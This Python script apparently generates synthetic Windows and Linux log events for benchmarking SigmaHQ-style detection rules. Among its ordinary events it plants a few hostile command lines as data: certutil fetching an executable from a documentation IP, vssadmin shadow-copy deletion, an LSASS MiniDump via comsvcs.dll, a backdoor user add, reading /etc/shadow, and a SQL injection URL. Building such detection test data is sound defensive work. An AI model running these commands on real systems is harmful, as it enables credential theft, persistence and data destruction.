#!/usr/bin/env python3
"""Events for the bench, of our own making, the same in every run.

   bench/corpus.py windows COUNT    nested JSON as an Elastic agent sends it: eight kinds of events
   bench/corpus.py syslog COUNT     lines of Linux hosts, web servers and firewalls

Other templates than the corpora have, so that nothing is tuned to a file. About one event in a
hundred is one that some rule of SigmaHQ should see.
"""
import json
import random
import sys

PLACES = ["hue", "dalat", "camau", "sonla", "angiang", "quangtri", "laocai", "nghean", "thaibinh"]
USERS = ["an.nguyen", "binh.tran", "chi.le", "dung.pham", "giang.vo", "hoa.dang", "khanh.bui",
         "lan.do", "minh.ho", "svc-motcua", "svc-sao-luu", "Administrator"]
SYSTEM = "C:\\Windows\\System32\\"
PROGRAMS = [
    ("C:\\Program Files\\MotCua\\bin\\tiepnhan.exe", "--ho-so {n} --buoc {k} --may-in \"Brother HL-{k}\""),
    ("C:\\Program Files\\LibreOffice\\program\\soffice.bin", "--writer \"D:\\van-ban\\cong-van-{n}.odt\" -env:OOO_CWD=2D:\\\\van-ban"),
    ("C:\\Program Files (x86)\\Unikey\\UniKeyNT.exe", ""),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "-contentproc --channel={n}.{k} -isForBrowser -prefsHandle {n} -prefMapSize 2{n} {k} tab"),
    ("C:\\Program Files\\7-Zip\\7z.exe", "a -tzip D:\\nop\\ho-so-{n}.zip D:\\nop\\{k}\\*.pdf -mx=5"),
    ("C:\\Program Files\\Java\\jre-17\\bin\\javaw.exe", "-Xmx512m -jar \"C:\\KySo\\signer-{k}.jar\" --token usb{k} --port 1{k}443"),
    ("C:\\Program Files\\PostgreSQL\\16\\bin\\postgres.exe", "--forkchild=\"backend\" {n}"),
    (SYSTEM + "svchost.exe", "-k LocalServiceNetworkRestricted -p -s Dhcp{k}"),
    (SYSTEM + "SearchProtocolHost.exe", "Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\""),
    (SYSTEM + "dllhost.exe", "/Processid:{{AB8902B4-09CA-4BB6-B78D-A8F59079A8{k:02d}}}"),
    (SYSTEM + "spoolsv.exe", ""),
    (SYSTEM + "cmd.exe", "/d /c \"C:\\KichBan\\dong-bo.cmd {k} {n} > D:\\log\\dong-bo-{k}.log\""),
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "-NoLogo -File C:\\KichBan\\KiemKe-{k}.ps1 -DonVi {n}"),
    (SYSTEM + "schtasks.exe", "/query /tn \\SaoLuu\\Dem{k} /fo list"),
    (SYSTEM + "robocopy.exe", "D:\\du-lieu \\\\luu-tru-{k}\\sao-luu\\{n} /MIR /R:2 /W:5 /NP"),
    (SYSTEM + "mmc.exe", "\"C:\\Windows\\system32\\printmanagement.msc\""),
    (SYSTEM + "klist.exe", "tgt"),
    (SYSTEM + "reg.exe", "query HKLM\\Software\\MotCua\\{k} /v PhienBan"),
]
ODD = [
    (SYSTEM + "cmd.exe", "/c whoami /priv && net user kiemtra{k} /add"),
    (SYSTEM + "vssadmin.exe", "delete shadows /all /quiet"),
    (SYSTEM + "certutil.exe", "-urlcache -split -f http://203.0.113.{k}/a.txt C:\\Users\\Public\\a{k}.exe"),
    (SYSTEM + "rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Temp\\l.dmp full"),
]
SCRIPTS = [
    "$danhSach = Get-ChildItem -Path D:\\ho-so -Filter *.pdf | Where-Object {{ $_.Length -gt {n} }}\n",
    "foreach ($tep in $danhSach) {{ Write-Output ('{{0}};{{1}}' -f $tep.Name, $tep.Length) }}\n",
    "function Ghi-NhatKy([string]$noiDung) {{ Add-Content D:\\log\\kiem-ke-{k}.log $noiDung }}\n",
    "$ketNoi = New-Object System.Data.Odbc.OdbcConnection 'DSN=motcua{k}'\n",
    "Start-Sleep -Seconds {k}; Ghi-NhatKy \"xong buoc {n}\"\n",
]


class Maker:
    def __init__(self, seed):
        self.random = random.Random(seed)
        self.clock = 1795329600

    def fill(self, text):
        return text.format(n=self.random.randrange(1000, 99999), k=self.random.randrange(1, 60))

    def time(self):
        self.clock += self.random.random() / 20
        whole = int(self.clock)
        return whole, int((self.clock - whole) * 1000)

    def stamp(self):
        whole, ms = self.time()
        day, rest = divmod(whole - 1795305600, 86400)
        return "2026-11-%02dT%02d:%02d:%02d.%03dZ" % (
            22 + day % 8, rest // 3600, rest // 60 % 60, rest % 60, ms)

    def guid(self):
        value = "%032x" % self.random.getrandbits(128)
        return "{%s-%s-%s-%s-%s}" % (value[:8], value[8:12], value[12:16], value[16:20], value[20:])

    def event(self, channel, number, provider, data):
        pick = self.random.choice
        return {
            "@timestamp": self.stamp(), "message": "",
            "agent": {"type": "winlogbeat", "version": "8.15.2", "id": self.guid()[1:-1]},
            "event": {"code": str(number), "kind": "event", "provider": provider},
            "host": {"name": "%s-pc%02d" % (pick(PLACES), self.random.randrange(90)),
                     "os": {"family": "windows", "build": "19045.5131"}},
            "winlog": {
                "channel": channel, "event_id": number, "provider_name": provider,
                "record_id": self.random.randrange(10 ** 8), "version": 5,
                "computer_name": "%s-pc%02d.example.vn" % (pick(PLACES), self.random.randrange(90)),
                "process": {"pid": 3120, "thread": {"id": self.random.randrange(9000)}},
                "event_data": data},
        }

    def program(self):
        odd = self.random.random() < 0.02
        image, arguments = self.random.choice(ODD if odd else PROGRAMS)
        return image, '"%s" %s' % (image, self.fill(arguments))

    def parent(self, image):
        if image.endswith("svchost.exe") or image.endswith("spoolsv.exe"):
            return SYSTEM + "services.exe", SYSTEM + "services.exe"
        return "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"

    def application(self):
        return self.random.choice(PROGRAMS[:7])[0]

    def sysmon_process(self):
        image, line = self.program()
        parent, parent_line = self.parent(image)
        return self.event("Microsoft-Windows-Sysmon/Operational", 1, "Microsoft-Windows-Sysmon", {
            "RuleName": "-", "UtcTime": self.stamp()[:-1].replace("T", " "),
            "ProcessGuid": self.guid(), "ProcessId": str(self.random.randrange(60000)),
            "Image": image, "FileVersion": "4.%d.0.1" % self.random.randrange(90),
            "Description": "Phần mềm một cửa" if "MotCua" in image else "System component",
            "Product": "-", "Company": "Example", "OriginalFileName": image.rsplit("\\", 1)[1],
            "CommandLine": line, "CurrentDirectory": "C:\\Users\\%s\\" % self.random.choice(USERS),
            "User": "EXAMPLE\\" + self.random.choice(USERS), "LogonGuid": self.guid(),
            "LogonId": "0x%x" % self.random.getrandbits(24), "TerminalSessionId": "1",
            "IntegrityLevel": "Medium",
            "Hashes": "MD5=%032X,SHA256=%064X,IMPHASH=%032X" % tuple(
                self.random.getrandbits(bits) for bits in (128, 256, 128)),
            "ParentProcessGuid": self.guid(), "ParentProcessId": "712", "ParentImage": parent,
            "ParentCommandLine": parent_line, "ParentUser": "NT AUTHORITY\\SYSTEM"})

    def audit_process(self):
        image, line = self.program()
        return self.event("Security", 4688, "Microsoft-Windows-Security-Auditing", {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "%s$" % self.random.choice(PLACES).upper(),
            "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x3e7",
            "NewProcessId": "0x%x" % self.random.randrange(60000), "NewProcessName": image,
            "TokenElevationType": "%%1936", "ProcessId": "0x2c8", "CommandLine": line,
            "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
            "TargetLogonId": "0x0", "ParentProcessName": self.parent(image)[0],
            "MandatoryLabel": "S-1-16-8192"})

    def logon(self):
        failed = self.random.random() < 0.1
        return self.event("Security", 4625 if failed else 4624,
                          "Microsoft-Windows-Security-Auditing", {
            "TargetUserName": self.random.choice(USERS), "TargetDomainName": "EXAMPLE",
            "LogonType": str(self.random.choice([2, 3, 3, 3, 5, 7, 10])),
            "IpAddress": "10.24.8.%d" % self.random.randrange(250),
            "IpPort": str(self.random.randrange(1024, 65000)), "LogonProcessName": "Kerberos",
            "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
            "ProcessName": SYSTEM + "lsass.exe", "KeyLength": "0", "LogonGuid": self.guid()})

    def registry(self):
        return self.event("Microsoft-Windows-Sysmon/Operational", 13, "Microsoft-Windows-Sysmon", {
            "RuleName": "-", "EventType": "SetValue", "ProcessGuid": self.guid(), "ProcessId": "940",
            "Image": self.application(),
            "TargetObject": self.fill("HKLM\\SOFTWARE\\MotCua\\TramTiepNhan\\{k}\\LanCuoi{n}"),
            "Details": self.fill("DWORD (0x{n:08x})"), "User": "NT AUTHORITY\\SYSTEM"})

    def network(self):
        return self.event("Microsoft-Windows-Sysmon/Operational", 3, "Microsoft-Windows-Sysmon", {
            "RuleName": "-", "ProcessGuid": self.guid(), "ProcessId": "5120",
            "Image": self.application(), "User": "EXAMPLE\\" + self.random.choice(USERS),
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": "192.0.2.%d" % self.random.randrange(250),
            "SourcePort": str(self.random.randrange(49152, 65535)),
            "DestinationIp": "198.51.100.%d" % self.random.randrange(250),
            "DestinationHostname": self.random.choice(["dvc.example.vn", "truc.example.org", "-"]),
            "DestinationPort": self.random.choice(["443", "443", "80", "5432", "9100"])})

    def dns(self):
        return self.event("Microsoft-Windows-Sysmon/Operational", 22, "Microsoft-Windows-Sysmon", {
            "RuleName": "-", "ProcessGuid": self.guid(), "ProcessId": "2044",
            "QueryName": self.fill("cdn{k}.dich-vu-{n}.example.org"), "QueryStatus": "0",
            "QueryResults": "::ffff:198.51.100.%d;" % self.random.randrange(250),
            "Image": self.application(), "User": "EXAMPLE\\" + self.random.choice(USERS)})

    def file(self):
        return self.event("Microsoft-Windows-Sysmon/Operational", 11, "Microsoft-Windows-Sysmon", {
            "RuleName": "-", "ProcessGuid": self.guid(), "ProcessId": "2044",
            "Image": self.application(),
            "TargetFilename": self.fill("C:\\Users\\Public\\Documents\\bao-cao\\quy-{k}\\ho-so-{n}.docx"),
            "CreationUtcTime": self.stamp(), "User": "EXAMPLE\\" + self.random.choice(USERS)})

    def script(self):
        text = "".join(self.fill(self.random.choice(SCRIPTS))
                       for _ in range(self.random.randrange(3, 30)))
        return self.event("Microsoft-Windows-PowerShell/Operational", 4104,
                          "Microsoft-Windows-PowerShell", {
            "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
            "ScriptBlockId": self.guid()[1:-1], "Path": "C:\\KichBan\\KiemKe.ps1"})

    def windows(self):
        kinds = [self.sysmon_process, self.audit_process, self.logon, self.registry, self.network,
                 self.dns, self.file, self.script]
        make = self.random.choices(kinds, [20, 10, 20, 14, 12, 10, 10, 4])[0]
        return json.dumps(make(), ensure_ascii=False, separators=(",", ":"))

    def header(self, priority, tag):
        whole, _ = self.time()
        rest = whole % 86400
        return "<%d>Nov 22 %02d:%02d:%02d %s-%02d %s: " % (
            priority, rest // 3600, rest // 60 % 60, rest % 60, self.random.choice(PLACES),
            self.random.randrange(40), tag)

    def sshd(self):
        words = ["Accepted publickey for", "Failed password for", "Failed password for invalid user"]
        return self.header(38, "sshd[%d]" % self.random.randrange(800, 30000)) + \
            "%s %s from 203.0.113.%d port %d ssh2" % (
                self.random.choice(words), self.random.choice(USERS),
                self.random.randrange(250), self.random.randrange(1024, 65000))

    def sudo(self):
        odd = self.random.random() < 0.05
        command = "/usr/bin/cat /etc/shadow" if odd else self.random.choice(
            ["/usr/bin/systemctl restart motcua", "/usr/bin/apt update",
             "/usr/bin/tail /var/log/motcua/loi.log"])
        return self.header(85, "sudo") + \
            "%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
                self.random.choice(USERS), self.random.randrange(9), self.random.choice(USERS),
                command)

    def cron(self):
        return self.header(78, "CRON[%d]" % self.random.randrange(800, 30000)) + \
            self.fill("(root) CMD (/usr/local/bin/dong-bo {k} >/var/log/dong-bo.{n})")

    def web(self):
        odd = self.random.random() < 0.01
        page = self.random.choice(["/dich-vu-cong/nop-ho-so?ma={n}", "/tin-tuc/{k}", "/static/{n}.js",
                                   "/api/v2/ho-so/{n}/trang-thai"])
        if odd:
            page = "/tim?q=1%27%20UNION%20SELECT%20{k},version()--"
        return self.header(190, "nginx") + \
            '192.0.2.%d - - [22/Nov/2026:08:%02d:%02d +0700] "GET %s HTTP/1.1" %d %d "%s" "%s"' % (
                self.random.randrange(250), self.random.randrange(60), self.random.randrange(60),
                self.fill(page), self.random.choice([200, 200, 200, 304, 404]),
                self.random.randrange(90000), "https://dvc.example.vn/",
                "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")

    def firewall(self):
        return "<189>date=2026-11-22 time=08:%02d:%02d devname=\"%s-tuong-lua\" " \
            "logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" " \
            "srcip=192.0.2.%d srcport=%d dstip=198.51.100.%d dstport=%d action=\"%s\" " \
            "policyid=%d service=\"HTTPS\" sentbyte=%d rcvdbyte=%d" % (
                self.random.randrange(60), self.random.randrange(60), self.random.choice(PLACES),
                self.random.randrange(250), self.random.randrange(1024, 65000),
                self.random.randrange(250), self.random.choice([443, 80, 22, 3389]),
                self.random.choice(["close", "accept", "deny"]), self.random.randrange(90),
                self.random.randrange(10 ** 6), self.random.randrange(10 ** 6))

    def audit(self):
        name = self.random.choice(["rsync", "tar", "python3", "curl", "pg_dump"])
        return "type=SYSCALL msg=audit(1795329%03d.%03d:%d): arch=c000003e syscall=59 success=yes " \
            "exit=0 ppid=%d pid=%d auid=1000 uid=0 tty=pts0 ses=%d comm=\"%s\" exe=\"/usr/bin/%s\" " \
            "key=\"exec\"" % (
                self.random.randrange(1000), self.random.randrange(1000),
                self.random.randrange(10 ** 7), self.random.randrange(30000),
                self.random.randrange(30000), self.random.randrange(900), name, name)

    def syslog(self):
        kinds = [self.sshd, self.sudo, self.cron, self.web, self.firewall, self.audit]
        return self.random.choices(kinds, [20, 5, 10, 30, 25, 10])[0]()


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ("windows", "syslog"):
        sys.exit(__doc__.strip())
    maker = Maker(20261122)
    make = maker.windows if sys.argv[1] == "windows" else maker.syslog
    for _ in range(int(sys.argv[2])):
        sys.stdout.write(make() + "\n")


if __name__ == "__main__":
    main()
